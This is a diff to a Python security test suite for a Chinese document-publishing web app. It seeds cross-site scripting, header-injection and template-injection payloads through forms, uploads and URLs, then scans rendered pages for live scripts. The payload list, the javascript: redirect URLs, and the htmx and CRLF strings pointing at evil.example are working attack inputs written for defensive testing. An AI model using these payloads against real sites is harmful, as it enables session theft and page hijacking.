@@ -13,6 +13,7 @@ from bs4 import BeautifulSoup, Tag
 
 from hub.app import House
 from hub.commands import publishing, reviewing
+from schemas import text
 from schemas.person import Person
 from schemas.review import Decision
 from tests import making
@@ -80,20 +81,23 @@ PAYLOADS = (
     f"<![CDATA[><img src=x onerror={RUN}>]]>",
     f"<?xml-stylesheet ><img src=x onerror={RUN}>?>",
     f"</textarea></title></script></style><img src=x onerror={RUN}>",
-    f"\"><script>{RUN}</script>",
+    f'"><script>{RUN}</script>',
     f"' onfocus={RUN} autofocus='",
-    f"\" autofocus onfocus={RUN} x=\"",
+    f'" autofocus onfocus={RUN} x="',
     f"`onfocus={RUN} autofocus",
     "{{7*7}}${7*7}<%=7*7%>#{7*7}{%raw%}",
     f"\u202e<b onmouseover={RUN}>x</b>\u2066\u200b",
     f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00",
     f"＜script＞{RUN}＜/script＞<\u0338script>{RUN}</script>",
     "x\r\nSet-Cookie: gongbu=evil\r\nLocation: //evil.example\r\n\r\n<b>x",
-    f"<div hx-get=//evil.example hx-trigger=load hx-on::load={RUN} data-hx-post=/logout sse-connect=//evil.example>x</div>",
+    f"<div hx-get=//evil.example hx-trigger=load hx-on::load={RUN} data-hx-post=/logout>x</div>",
+    "<div hx-ext=sse sse-connect=//evil.example>x</div>",
     f"<p data-picture=//evil.example data-keep data-confirm={RUN} id=main class=summary>x</p>",
 )
 #: What must not come alive on a page.
-ELEMENTS = {"object", "embed", "base", "math", "template", "noscript", "video", "audio", "marquee", "xmp", "x"}
+ELEMENTS = {"object", "embed", "base", "math", "template", "video", "audio", "marquee", "xmp", "x"}
+#: What we have on our own pages, and from where.
+OURS = {"script": "/assets/", "link": "/assets/", "iframe": "/releases/"}
 ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster", "hx-get", "sse-connect"}
 SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg", "//")
 
@@ -107,17 +111,18 @@ def alive(sheet: Sheet) -> Iterator[str]:
 
 
 def _is_alive(tag: Tag) -> bool:
-    if tag.name in ELEMENTS or tag.name.startswith("scr") and tag.name != "script":
+    if tag.name in ELEMENTS or (tag.name.startswith("scr") and tag.name != "script"):
         return True
-    if tag.name in {"svg", "style"} and ("evil" in str(tag) or "__xss" in str(tag)):
+    if tag.name in {"svg", "style", "noscript"} and ("evil" in str(tag) or "__xss" in str(tag)):
         return True
-    if tag.name == "scr<script" or tag.name in {"script", "link"} and not str(tag.get("src") or tag.get("href") or "").startswith("/assets/"):
-        return True
-    if tag.name == "iframe" and not str(tag.get("src", "")).startswith("/releases/"):
-        return True
-    if tag.name == "meta" and tag.get("http-equiv"):
-        return True
-    return any(_acts(name, str(value)) for name, value in tag.attrs.items())
+    fetched = str(tag.get("src") or tag.get("href") or "")
+    if tag.name == "link" and tag.get("rel") in (["alternate"], ["canonical"]):
+        return "evil" in str(tag)
+    if tag.name in OURS:
+        return not fetched.startswith(OURS[tag.name])
+    return (tag.name == "meta" and tag.has_attr("http-equiv")) or any(
+        _acts(name, str(value)) for name, value in tag.attrs.items()
+    )
 
 
 def _acts(name: str, value: str) -> bool:
@@ -166,7 +171,9 @@ async def spread(house: House, staff: dict[str, Person], enter: Enter, show: Sho
     reviewer = await enter("first")
     sheets += await _said(editor, reviewer, public, doses)
     for login, level in making.REVIEWS:
-        await reviewing.review(house.hub, staff[login], public, level, Decision.APPROVE, note=doses.take(500))
+        # As the form leaves it, which a command expects.
+        note = text.nfc(doses.take(500))
+        await reviewing.review(house.hub, staff[login], public, level, Decision.APPROVE, note=note)
     await publishing.publish(house.hub, staff["publisher"], public)
     sheets += await _steered(await enter("publisher"), public, doses)
     await show(public)
@@ -180,20 +187,25 @@ async def _office(admin: Clerk, doses: Doses) -> list[Sheet]:
     """What an administrator keeps: people, units, phrases, holidays, the template."""
     found = []
     for number in range(5):
-        person = {"login": f"evil{number}", "name": doses.take(), "unit": doses.take(), "duties": ["auditor"]}
+        person: dict[str, Any] = {
+            "login": f"evil{number}",
+            "name": doses.take(),
+            "unit": doses.take(),
+            "duties": ["auditor"],
+        }
         found.append(await admin.send(await admin.get("/admin/people"), "/admin/people", **person))
-        unit = {"name": doses.take(100), "position": str(number)}
+        unit: dict[str, Any] = {"name": doses.take(100), "position": str(number)}
         found.append(await admin.send(await admin.get("/admin/units"), "/admin/units", **unit))
-        phrase = {"wrong": doses.take(100), "correct": doses.take(100), "note": doses.take()}
+        phrase: dict[str, Any] = {"wrong": doses.take(100), "correct": doses.take(100), "note": doses.take()}
         found.append(await admin.send(await admin.get("/admin/phrases"), "/admin/phrases", **phrase))
     page = await admin.get("/admin/calendar/2031")
     days = f"2031-10-01 休 {doses.take(100)}".replace("\n", " ").replace("\r", "")
     found.append(await admin.send(page, page.path, days=days, source=doses.take()))
     found.append(await admin.send(page, page.path, days=doses.take(2000), source=doses.take()))
-    for body in (doses.take(3000), f"《{{title}}》解读\n\n## {PAYLOADS[0]}\n\n{PAYLOADS[13]}"):
-        found.append(await admin.send(await admin.get("/admin/template"), "/admin/template", body=body))
-    found.append(await admin.get("/admin/people/evil0"))
-    return found
+    page = await admin.get("/admin/template")
+    bodies = (doses.take(3000), f"《{{title}}》解读\n\n## {PAYLOADS[0]}\n\n{PAYLOADS[13]}")
+    found += [await admin.send(page, page.path, body=body) for body in bodies]
+    return [*found, await admin.get("/admin/people/evil0")]
 
 
 def _named(payload: str) -> str:
@@ -202,15 +214,22 @@ def _named(payload: str) -> str:
 
 async def _release(editor: Clerk, doses: Doses, sheets: list[Sheet]) -> int:
     """Bring hostile files, and confirm hostile elements."""
-    lines = tuple(("甲" + payload.replace("\x00", "").replace("\x01", ""), "") for payload in PAYLOADS)
-    page = "<html><title>关于甲的解读</title><body>" + "".join(f"<p>甲{one}</p>" for one in PAYLOADS)
+    # A file with these characters is refused as a whole. Some payloads swallow what follows: both orders are read.
+    filed = [payload.replace("\x00", "").replace("\x01", "") for payload in PAYLOADS]
+    lines = tuple(("甲" + payload, "") for payload in filed)
+    page, back = (
+        "<html><title>关于甲的解读</title><body>" + "".join(f"<p>甲{one}</p>" for one in order)
+        for order in (filed, filed[::-1])
+    )
     files = (
         (_named(doses.take(80)) + ".docx", papers.word((*papers.POLICY[:4], *lines))),
         (_named(doses.take(80)) + ".html", page.encode()),
-        (_named(doses.take(80)) + ".md", "\n\n".join(("# 关于乙的解读", *PAYLOADS)).encode()),
+        (_named(doses.take(80)) + ".html", back.encode()),
+        (_named(doses.take(80)) + ".md", "\n\n".join(("# 关于乙的解读", *filed)).encode()),
         (_named(doses.take(80)) + ".pdf", b"%PDF-1.7"),
     )
     asked = await brought(editor, *files)
+    assert "没有读入" not in asked.words, asked.words[:500]
     told: dict[str, Any] = {name: doses.take() for name in ("title", "issuer", "addressees", "note")}
     told |= {"keywords": "，".join(doses.take(60) for _ in range(3)), "signed_on": "2026-11-01"}
     wrong = {"doc_no": doses.take(60), "index_no": doses.take(), "theme": doses.take(60)}
@@ -225,12 +244,16 @@ async def _texts(editor: Clerk, release: int, doses: Doses, sheets: list[Sheet])
     """Type, keep, paste, attach, rename."""
     base = f"/releases/{release}/write"
     path = f"{base}/interpretation-1"
-    page = await editor.send(await editor.get(base), f"{base}/interpretations")
+    page = await editor.get(base)
     mark = papers.value(page, "_token")
     # Each alone is another test's matter; here they come together, as one clipboard.
     html = "".join(f"<p>甲{payload}乙</p>" for payload in PAYLOADS)
     sheets.append(await editor.post(f"{path}/paste", {"_token": [mark], "html": [html]}))
-    typed = {"title": doses.take(), "summary": doses.take(500), "body": "".join(f"<p>甲{one}</p>" for one in PAYLOADS)}
+    typed: dict[str, Any] = {
+        "title": doses.take(),
+        "summary": doses.take(500),
+        "body": "".join(f"<p>甲{one}</p>" for one in PAYLOADS),
+    }
     sheets.append(await editor.send(page, path, **typed))
     kept = papers.fields(page, path) | {"body": ["<p>" + doses.take(4000)], "title": [doses.take()]}
     sheets += [await editor.post(f"{path}/keep", kept), await editor.get(f"{path}/draft")]
@@ -249,7 +272,7 @@ async def _said(editor: Clerk, reviewer: Clerk, release: int, doses: Doses) -> l
     found = [await _submitted(editor, submit)]
     for quote in (doses.take(500), "", "加强规划公示工作"):
         page = await reviewer.get(review)
-        said = {"words": doses.take(2000), "quote": quote}
+        said: dict[str, Any] = {"words": doses.take(2000), "quote": quote}
         found.append(await reviewer.send(page, f"/releases/{release}/comments", **said))
     assert "批注已记下" in found[-1].text, found[-1].words[:300]
     action = next(
@@ -290,7 +313,7 @@ async def _steered(publisher: Clerk, release: int, doses: Doses) -> list[Sheet]:
 
 async def _after(publisher: Clerk, release: int, doses: Doses) -> list[Sheet]:
     path = f"/releases/{release}/after/withdrawn"
-    said = {"reason": doses.take(500), "ground": doses.take(), "title": doses.take()}
+    said: dict[str, Any] = {"reason": doses.take(500), "ground": doses.take(), "title": doses.take()}
     wrong = said | {"address": doses.take(200), "effective_on": doses.take(40)}
     page = await publisher.get(path)
     found = [await publisher.send(page, path, **wrong), await publisher.send(page, path, **said)]
@@ -302,8 +325,10 @@ async def _lent(signer: Clerk, doses: Doses) -> list[Sheet]:
     path = "/me/delegations"
     page = await signer.get(path)
     today = papers.value(page, "starts_on")
-    given = {"receiver": "signer2", "starts_on": today, "ends_on": today, "reason": doses.take()}
-    return [await signer.send(page, path, **given), await signer.send(page, path, **(given | {"ends_on": "x"}))]
+    given: dict[str, Any] = {"receiver": "first", "starts_on": today, "ends_on": today, "reason": doses.take()}
+    made = await signer.send(page, path, **given)
+    assert "已授权代办" in made.text, made.words[:300]
+    return [made, await signer.send(page, path, **(given | {"ends_on": "x"}))]
 
 
 def pages(poisoned: Poisoned) -> dict[str, list[str]]:
@@ -311,16 +336,22 @@ def pages(poisoned: Poisoned) -> dict[str, list[str]]:
     one, draft = f"/releases/{poisoned.public}", f"/releases/{poisoned.draft}"
     search = "/releases?q=%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E%22%3E%3Cimg+src%3Dx+onerror%3Dwindow.__xss%3D1%3E"
     previews = [f"{place}/preview/{channel}" for place in (one, draft) for channel in ("website", "rss")]
+    query = "%22%3E%3Cscript%3Ewindow.__xss=1%3C/script%3E"
     return {
-        "editor": ["/", search, f"{draft}/write", f"{draft}/write?with=interpretation-2", f"{draft}/submit"]
-        + ["/releases/new", one, f"{one}/write", f"{one}/preview", *previews],
+        "editor": [
+            *("/", search, f"{draft}/write", f"{draft}/write?with=interpretation-2", f"{draft}/submit"),
+            *("/releases/new", one, f"{one}/write", f"{one}/preview", *previews),
+        ],
         "first": [f"{one}/review", f"{one}/redline?from=1&to=2", f"{one}/redline"],
-        "publisher": [f"{one}/progress", f"{one}/progress/now", f"{one}/publish", f"{one}/after", "/channels"]
-        + [f"{one}/after/repealed", "/channels/rss"],
+        "publisher": [
+            *(f"{one}/progress", f"{one}/progress/now", f"{one}/publish", f"{one}/after", "/channels"),
+            *(f"{one}/after/repealed", "/channels/rss"),
+        ],
         "signer2": [f"{one}/after", "/me/delegations", f"/audit/releases/{poisoned.public}", "/"],
-        "admin": ["/admin", "/admin/people", "/admin/people/evil0", "/admin/units", "/admin/phrases"]
-        + ["/admin/calendar/2031", "/admin/template", "/admin/settings", "/audit/log", "/audit", "/me/delegations"]
-        + ["/audit/log?q=%3Cimg+src%3Dx+onerror%3Dwindow.__xss%3D1%3E&who=%22%3E%3Cscript%3E", "/audit/find?q=%22%3E%3Csvg"]
-        + ["/no%22%3E%3Cscript%3Ewindow.__xss=1%3C/script%3E", "/login?next=javascript:window.__xss=1"]
-        + [f"/me/prove?next=javascript:window.__xss=1", f"{one}?%22%3E%3Cscript%3E=1"],
+        "admin": [
+            *("/admin", "/admin/people", "/admin/people/evil0", "/admin/units", "/admin/phrases"),
+            *("/admin/calendar/2031", "/admin/template", "/admin/settings", "/audit/log", "/audit", "/me/delegations"),
+            *(f"/audit/log?q={query}&who={query}", f"/audit/find?q={query}", f"/no{query}", f"{one}?{query}=1"),
+            *("/login?next=javascript:window.__xss=1", "/me/prove?next=javascript:window.__xss=1"),
+        ],
     }
